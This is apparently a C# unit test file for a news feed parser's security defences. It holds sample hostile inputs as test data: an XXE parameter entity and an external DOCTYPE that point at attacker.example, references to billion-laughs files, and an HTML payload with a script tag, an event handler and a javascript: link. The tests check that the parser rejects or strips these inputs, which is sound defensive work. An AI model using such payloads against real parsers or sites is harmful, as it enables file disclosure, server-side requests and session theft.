using System.Text;
using NewsIngest.Fetcher.Feeds;
using Shouldly;
using Xunit;

namespace NewsIngest.Fetcher.Tests.Feeds;

public sealed class FeedParserSecurityTests
{
    [Theory]
    [InlineData("xxe.xml")]
    [InlineData("billion-laughs.xml")]
    public void Parse_DocumentTypeWithEntityDeclarations_ThrowsWithoutExpanding(string name)
    {
        // Arrange
        var bytes = FeedTestFiles.CorpusBytes(name);

        // Act
        var act = () => FeedParser.Parse(bytes, null, null);

        // Assert
        act.ShouldThrow<FeedFormatException>().Message.ShouldContain("DTD processing is disabled");
    }

    [Fact]
    public void Parse_ParameterEntityPointingOutside_Throws()
    {
        // Arrange
        const string xml = """
            <?xml version="1.0"?>
            <!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
            <rss version="2.0"><channel><title>x</title></channel></rss>
            """;

        // Act
        var act = () => FeedTestFiles.ParseText(xml);

        // Assert
        act.ShouldThrow<FeedFormatException>();
    }

    [Fact]
    public void Parse_ExternalDoctypeWithoutInternalSubset_IsIgnoredNotFetched()
    {
        // Arrange
        const string xml = """
            <!DOCTYPE rss SYSTEM "http://attacker.example/never-fetched.dtd">
            <rss version="2.0"><channel><title>Safe</title></channel></rss>
            """;

        // Act
        var feed = FeedTestFiles.ParseText(xml);

        // Assert
        feed.Title.ShouldBe("Safe");
    }

    [Fact]
    public void Parse_NestingDeeperThanTheLimit_Throws()
    {
        // Arrange
        var xml = new StringBuilder("<rss><channel>");
        for (var i = 0; i < 1000; i++)
        {
            xml.Append("<x>");
        }

        // Act
        var act = () => FeedTestFiles.ParseText(xml.ToString());

        // Assert
        act.ShouldThrow<FeedFormatException>().Message.ShouldContain("deeper");
    }

    [Fact]
    public void Parse_ContentLargerThanTheLimit_Throws()
    {
        // Arrange
        var bytes = new byte[(32 * 1024 * 1024) + 1];

        // Act
        var act = () => FeedParser.Parse(bytes, null, null);

        // Assert
        act.ShouldThrow<FeedFormatException>().Message.ShouldContain("larger");
    }

    [Fact]
    public void Parse_ScriptAndEventHandlersInContent_AreRemoved()
    {
        // Arrange
        const string xml = """
            <rss version="2.0"><channel><item>
              <description><![CDATA[<p onmouseover="x()">Hi<script>steal()</script><a href="javascript:alert(1)">link</a></p>]]></description>
            </item></channel></rss>
            """;

        // Act
        var item = FeedTestFiles.ParseText(xml).Items.ShouldHaveSingleItem();

        // Assert
        item.Summary.ShouldBe("<p>Hi<a>link</a></p>");
    }
}
